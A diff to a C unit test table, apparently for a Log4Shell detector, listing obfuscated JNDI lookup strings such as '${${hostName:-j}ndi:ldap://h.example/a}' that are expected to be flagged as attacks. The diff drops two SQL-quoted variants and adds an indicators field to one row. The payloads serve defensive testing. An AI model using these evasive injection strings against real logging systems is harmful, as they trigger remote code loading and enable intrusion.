@@ -288,11 +288,9 @@ static void tries_that_spell(void **state)
         ROW("${${env:BARFOO:-j}", "attempt"),
         ROW("${lower:${:a:d:-${lower:}}jndi:}", "attempt"),
         /* a name hidden in front of an address, which is none in the end */
-        ROW("${${hostName:-j}ndi:ldap://h.example/a}", "attempt"),
+        ROW("${${hostName:-j}ndi:ldap://h.example/a}", "attempt", .indicators = H),
         ROW("${j${date:''}ndi:ldap://h.example/a}", "attempt"),
         ROW("${jn${date:' '}di:rmi://h.example/a}", "attempt"),
-        ROW("${${date:''j''}${date:''n''}${date:''d''}${date:''i''}:ldap://h.example/a}", "attempt"), /* as SQL logs quotes */
-        ROW("SELECT '${jn${date:}di${date:'':''}ldap://h.example/a}'", "attempt"),
         ROW("${${urlDecoder:%6a%6e%64%69}:ldap://h.example/a}", "attempt"),
         ROW("${${const:java.lang.String.CASE}:dns://h.example/a}", "attempt"),
         /* an address given to another lookup */
